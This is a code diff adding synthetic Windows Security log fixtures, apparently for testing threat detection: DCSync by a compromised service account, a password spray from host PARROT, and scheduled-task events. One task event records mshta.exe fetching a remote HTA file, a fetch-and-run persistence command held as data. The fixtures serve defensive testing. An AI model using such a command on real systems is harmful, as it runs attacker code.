@@ -101,3 +101,47 @@ export function scheduledTasks(): string[] {
     taskCreated(15102, 2 * 3600 + 58 * 60, 'WS11.corp.example.com', 'jdoe', '\\SystemHealthCheck', 'C:\\Users\\Public\\Music\\svchost.exe', ''),
   ];
 }
+
+const EXPORT_HEADER = ['#TYPE System.Diagnostics.Eventing.Reader.EventLogRecord', '"Message","Id","Version","Qualifiers","Level","Task","Opcode","Keywords","RecordId","ProviderName","ProviderId","LogName","ProcessId","ThreadId","MachineName","UserId","TimeCreated","ContainerLog","MatchedQueryIds","Bookmark","LevelDisplayName","OpcodeDisplayName","TaskDisplayName","KeywordsDisplayNames","Properties"'];
+
+/** One Get-WinEvent | Export-Csv record of DC02's Security log. */
+const exportRow = (message: string, id: number, record: number, time: string, task: string): string =>
+  [q(message.replace(/\n/g, '\r\n')), q(String(id)), '"0"', '""', '"0"', '"14080"', '"0"', '"-9214364837600034816"', q(String(record)), q(SEC), '"54849625-5478-4994-a5ba-3e3b0328c30d"', '"Security"', '"788"', '"2140"', '"DC02.corp.example.com"', '""', q(time), '"Security"', '""', '"System.Diagnostics.Eventing.Reader.EventBookmark"', '"Information"', '"Info"', q(task), '"{Audit Success}"', '"System.Collections.Generic.List`1[System.Diagnostics.Eventing.Reader.EventProperty]"'].join(',');
+
+const dsMessage = (user: string, guid: string): string =>
+  `An operation was performed on an object.\n\nSubject :\n\tSecurity ID:\t\tCORP\\${user}\n\tAccount Name:\t\t${user}\n\tAccount Domain:\t\tCORP\n\tLogon ID:\t\t0x3E7A21\n\nObject:\n\tObject Server:\t\tDS\n\tObject Type:\t\t%{${DOMAIN_DNS}}\n\tObject Name:\t\t%{4c1a3f0e-6f3d-4d2a-9d7e-1b2c3d4e5f60}\n\tHandle ID:\t\t0x0\n\nOperation:\n\tOperation Type:\t\tObject Access\n\tAccesses:\t\tControl Access\n\t\t\t\t\n\tAccess Mask:\t\t0x100\n\tProperties:\t\tControl Access\n\t{${guid}}\n\t{${DOMAIN_DNS}}\n\n\nAdditional Information:\n\tParameter 1:\t\t-\n\tParameter 2:\t\t`;
+
+/** DC02's Security log (Export-Csv): DC01$ replicating, then svc_sql (a service account whose password was cracked) running DCSync. */
+export function dcSyncExport(): string[] {
+  return [
+    ...EXPORT_HEADER,
+    exportRow(dsMessage('DC01$', REPL.changes), 4662, 51001, '3/10/2026 1:00:02 AM', 'Directory Service Access'),
+    exportRow(dsMessage('DC01$', REPL.all), 4662, 51002, '3/10/2026 1:00:02 AM', 'Directory Service Access'),
+    exportRow(dsMessage('svc_sql', REPL.all), 4662, 51003, '3/10/2026 3:12:40 AM', 'Directory Service Access'),
+    exportRow(dsMessage('svc_sql', REPL.filtered), 4662, 51004, '3/10/2026 3:12:40 AM', 'Directory Service Access'),
+  ];
+}
+
+const xmlEscape = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
+
+/** One wevtutil XML event (one line) on `computer`. */
+const xmlEvent = (id: number, rec: number, time: string, computer: string, keywords: string, data: Record<string, string>): string =>
+  `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="${SEC}" Guid="{54849625-5478-4994-a5ba-3e3b0328c30d}"/><EventID>${id}</EventID><Version>0</Version><Level>0</Level><Task>0</Task><Opcode>0</Opcode><Keywords>${keywords}</Keywords><TimeCreated SystemTime="2026-03-10T${time}.1234567Z"/><EventRecordID>${rec}</EventRecordID><Correlation/><Execution ProcessID="788" ThreadID="2140"/><Channel>Security</Channel><Computer>${computer}</Computer><Security/></System><EventData>${Object.entries(data).map(([k, v]) => `<Data Name="${k}">${xmlEscape(v)}</Data>`).join('')}</EventData></Event>`;
+
+/** DC01's NTLM validations (4776) saved by wevtutil: PARROT sprays 12 accounts with no address in the event, beside a user mistyping twice and ordinary successes; and WS12's scheduled tasks (4698). */
+export function wevtutilXml(): string[] {
+  const FAIL = '0x8010000000000000';
+  const OK = '0x8020000000000000';
+  const v = (rec: number, sec: number, user: string, ws: string, ok: boolean): string =>
+    xmlEvent(4776, rec, hms(sec), DC, ok ? OK : FAIL, { PackageName: 'MICROSOFT_AUTHENTICATION_PACKAGE_V1_0', TargetUserName: user, Workstation: ws, Status: ok ? '0x0' : '0xc000006a' });
+  const rows: string[] = [];
+  let rec = 88000;
+  for (let i = 0; i < 20; i++) rows.push(v(rec++, 8 * 3600 + i * 61, SPRAYED[i % SPRAYED.length]!, `LT-0${200 + (i % 7)}`, true));
+  rows.push(v(rec++, 8 * 3600 + 700, 'p.owens', 'LT-0231', false), v(rec++, 8 * 3600 + 720, 'p.owens', 'LT-0231', false), v(rec++, 8 * 3600 + 740, 'p.owens', 'LT-0231', true));
+  SPRAYED.slice(2, 14).forEach((u, i) => rows.push(v(rec++, 4 * 3600 + i * 9, u, 'PARROT', false)));
+  const task = (id: number, sec: number, user: string, name: string, command: string, args: string): string =>
+    xmlEvent(4698, id, hms(sec), 'WS12.corp.example.com', OK, { SubjectUserSid: `${DOM}-1105`, SubjectUserName: user, SubjectDomainName: 'CORP', SubjectLogonId: '0x3e7', TaskName: name, TaskContent: taskXml(command, args, `CORP\\${user}`) });
+  rows.push(task(rec++, 9 * 3600, 'm.novak', '\\Zoom Updater', '%LOCALAPPDATA%\\Programs\\Zoom\\bin\\Zoom.exe', '--update'));
+  rows.push(task(rec++, 4 * 3600 + 300, 'svc_sql', '\\WindowsDefenderSync', 'C:\\Windows\\System32\\mshta.exe', 'http://203.0.113.77/s.hta'));
+  return rows;
+}
